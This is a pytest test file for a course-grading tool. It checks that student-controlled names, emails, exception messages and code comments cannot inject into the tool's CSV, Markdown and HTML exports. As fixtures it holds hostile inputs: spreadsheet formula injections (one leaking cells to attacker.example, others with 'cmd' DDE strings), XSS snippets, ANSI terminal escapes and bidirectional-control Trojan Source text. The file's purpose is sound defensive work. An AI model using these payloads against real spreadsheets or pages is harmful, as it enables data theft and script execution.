"""What a student's own text can do to the course's exports, from a red-team review (Dec 2026).

Students set their own name and email on Gradescope and their code chooses its
exception messages; all of it reached the instructor's files raw:

- ``grades.csv``/``canvas.csv``: a name such as ``=HYPERLINK(...)`` ran as a
  spreadsheet formula, and a bare ``\\r`` in a name forged a row;
- ``summary.md``/``feedback.md``: an exception message or a name became an
  image, a ``javascript:`` link, raw HTML or a heading, a refusal note kept its
  ANSI escapes, and output holding a fence closed the feedback's code block;
- ``similarity.html``: U+2028 in a comment shifted the copier's excerpt off the
  copied code, bidirectional controls reordered it, and huge docstrings made
  the page hundreds of megabytes.

Each test calls the gradebook or similarity functions directly on hostile rows
or texts; no grading runs.
"""

import csv
import io
import re

import pytest

from warblr.grading.gradebook import Row, canvas_csv, feedback_markdown, grades_csv, summary_markdown
from warblr.grading.similarity import fingerprint_files, passages, rank_pairs, report_html
from warblr.grading.submissions import Student

FORMULAS = ['=HYPERLINK("https://attacker.example/?leak="&A2&B2,"Mallory")', "+Trudy",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE_MARKDOWN = ("<img src=x onerror=alert(1)> ![t](https://attacker.example/px.png) "
                    "[verify grade](javascript:alert(1)) <script>alert(2)</script> **bold** `tick` | cell")


def results(output="Hint: fix it", score=0.0):
    return {"score": score, "max_score": 4.0,
            "tests": [{"name": "a", "score": score, "max_score": 4.0, "status": "failed", "output": output}]}


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers():
    students = [Student("0042", name, email) for name, email in zip(FORMULAS, reversed(FORMULAS))]
    rows = [Row("k", students, None, results(score=-1.5)), Row("m", [Student("-17", "Ann", "a@x")], None, results())]
    for text in (grades_csv(rows), canvas_csv(rows, assignment="Lab 1")):
        table = read_csv(text)
        cells = [cell for line in table for cell in line]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                    and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
        assert "'=HYPERLINK(\"https://attacker.example/?leak=\"&A2&B2,\"Mallory\")" in cells
        assert "'+Trudy" in cells and "'-2+3+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert "0042" in cells and "-17" in cells and "-1.5" in cells  # ids and scores stay numbers
    grades = read_csv(grades_csv(rows))
    assert grades[1][:5] == ["0042", "'" + FORMULAS[0], "'=1+1", "-1.5", "4"]  # a CR before = is dropped, = quoted


def test_a_line_break_in_a_name_cannot_forge_a_row():
    rows = [Row("s1", [Student("0042", "Ada Lovelace", "ada@x")], None, results()),
            Row("s2", [Student("0666", "Mallory\r0042", "Ada Lovelace\u2028x")], None, results(score=1.0)),
            Row("s3", [Student("0777", "Eve\n0042", "Ada Lovelace, 12")], None, results(score=1.0))]
    grades = read_csv(grades_csv(rows))
    assert [line[0] for line in grades] == ["id", "0042", "0666", "0777"] and {len(line) for line in grades} == {8}
    assert grades[2][1:4] == ["Mallory 0042", "Ada Lovelace x", "1"] and grades[3][1:4] == ["Eve 0042",
                                                                                            "Ada Lovelace, 12", "1"]
    canvas = read_csv(canvas_csv(rows, assignment="Lab"))
    assert [line[2] for line in canvas] == ["SIS User ID", "0042", "0666", "0777"]
    assert not [cell for line in grades + canvas for cell in line if re.search("[\r\n\u2028]", cell)]


def rendered(markdown):
    """``markdown`` as HTML by a renderer that lets raw HTML through (as many do before sanitising)."""
    mistune = pytest.importorskip("mistune")
    return mistune.create_markdown(escape=False, plugins=["table", "url"])(markdown)


def assert_inert(page):
    assert not re.search(r"<(img|script|a)\b", page) and "href" not in page and "src=\"" not in page


def test_a_hostile_hint_and_note_in_the_summary_render_as_text():
    rows = [Row(f"s{i}", [Student(f"s{i}", "Ann")], None, results(f"ValueError: {HOSTILE_MARKDOWN}\nmore"))
            for i in range(2)]
    rows.append(Row("0777\n# key", [Student("0777", "Eve")], None, results(),
                    problem="refused at intake: x\x1b]0;PWNED\x07\x1b[2K\r\x1b[32m all graded\x1b[0m\n\n"
                            "## Injected heading\n- 0042: <img src=x onerror=alert(1)> [appeal](javascript:alert(1))"))
    summary = summary_markdown(rows)
    assert "\x1b" not in summary and "\r" not in summary and "<img" not in summary
    assert not re.search(r"(?<!\\)[\[\]]", summary.split("| check |")[1])  # every [ escaped
    assert [line for line in summary.splitlines() if line.startswith("#")] == ["# warblr grade batch",
                                                                              "## Submissions to look at"]
    hint_row = next(line for line in summary.splitlines() if line.startswith("| a |"))
    assert hint_row.count(" | ") == 4 and hint_row.endswith("(2) |")  # the hint's | stays inside its cell
    problem = next(line for line in summary.splitlines() if line.startswith("- 0777"))
    assert "PWNED" not in problem and "all graded \\#\\# Injected heading" in problem  # ANSI title gone
    html = rendered(summary)
    assert_inert(html)
    assert html.count("<h") == 2 + html.count("<hr") and html.count("<li>") == 1
    assert "&lt;img src=x onerror=alert(1)&gt; ![t](https://attacker.example/px.png) [verify grade]" in html


def test_a_hostile_name_note_and_output_in_feedback_render_as_text():
    name = "Eve\n\n# Injected heading in feedback\n<img src=x onerror=alert(1)> [grade appeal](javascript:alert(1))"
    output = "Hint: x\n```\n# escaped the fence\n<img src=x onerror=alert(1)>\n````\n\x1b[31mred\x1b[0m\rover"
    row = Row("0777", [Student("0777", name), Student("0042", "Ada _Lovelace_")], None, results(output),
              problem="refused at intake: \x1b[2Jbad\nline")
    feedback = feedback_markdown(row)
    lines = feedback.splitlines()
    assert lines[0].startswith("# Feedback for Eve \\# Injected heading in feedback &lt;img")
    assert "\\[grade appeal\\](javascript:alert(1)), Ada \\_Lovelace\\_" in lines[0]
    assert "Note: refused at intake: bad line" in lines
    assert "\x1b" not in feedback and "\r" not in feedback
    fence = "`" * 5  # longer than the output's own run of four backticks
    start = lines.index(fence)
    assert lines[start + 1:lines.index(fence, start + 1)] == ["Hint: x", "```", "# escaped the fence",
                                                              "<img src=x onerror=alert(1)>", "````", "red\\rover"]
    html = rendered(feedback)
    assert_inert(html)
    assert len(re.findall("<h1", html)) == 1 and len(re.findall("<h2", html)) == 1  # the title, the check


def copied_module(prefix="", docstring=""):
    body = "\n".join(f"def step_{i}(values, scale={i}):\n    {docstring}total = sum(v * scale for v in values)\n"
                     f"    return sorted(values)[{i}] + total.conjugate() / len(values)\n" for i in range(30))
    return prefix + body


def pair_of(honest, copier):
    documents = [fingerprint_files("ada", {"work.py": honest.encode()}),
                 fingerprint_files("mallory", {"work.py": copier.encode()})]
    return rank_pairs(documents)[0]


def test_the_copiers_excerpt_shows_the_copied_lines_whatever_the_line_separators():
    padding = "# " + "\u2028innocent looking line\x0c\x85" * 40 + "\n" + "x = 1\r" * 3
    pair = pair_of(copied_module(), copied_module(padding))
    assert pair.score > 0.9
    page = report_html([pair], total=2)
    first_a, first_b = passages(pair)[0]
    assert first_b[1] == first_a[1] + 4  # one comment line and three bare-\r lines before the copy
    shown = re.findall(r"<pre class='match'>(.*?)</pre>", page, re.S)
    for left, right in zip(shown[::2], shown[1::2]):  # the same code beside the same code
        assert [line[6:] for line in left.splitlines()] == [line[6:] for line in right.splitlines()]
        assert "innocent" not in right
    assert "\u2028" not in page and "\\u2028" not in page.split("<pre", 1)[0]


def test_bidirectional_controls_show_as_escapes_and_html_stays_escaped_in_the_report():
    trojan = copied_module().replace("total = sum(", "total = sum(  # \u202e\u2066 } \u2069\u200f "
                                     "</pre><script>alert(1)</script>\n        ", 1)
    page = report_html([pair_of(copied_module(), trojan)], total=2)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f]", page)
    assert "\\u202e\\u2066 } \\u2069\\u200f &lt;/pre&gt;&lt;script&gt;" in page and "<script>" not in page
    assert "content=\"default-src 'none'; style-src 'unsafe-inline'\"" in page  # still no script, no fetch


def test_huge_docstrings_give_a_small_page_that_says_what_it_cut():
    huge = '"""' + "y" * 20000 + "\n" + "\n".join("x" * 60 for _ in range(2000)) + '"""\n    '
    pair = pair_of(copied_module(docstring=huge), copied_module(docstring=huge))  # 30 docstrings, 4 MB a side
    page = report_html([pair] * 3, total=2)
    assert len(page) < 3 * 400_000
    assert "more lines not shown" in page and "more characters]" in page
    longest = max(len(line) for block in re.findall(r"<pre class='match'>(.*?)</pre>", page, re.S)
                  for line in block.splitlines())
    assert longest < 300  # a line of a screen or two, not 20,000 characters
    assert max(block.count("\n") for block in re.findall(r"<pre class='match'>(.*?)</pre>", page, re.S)) < 100
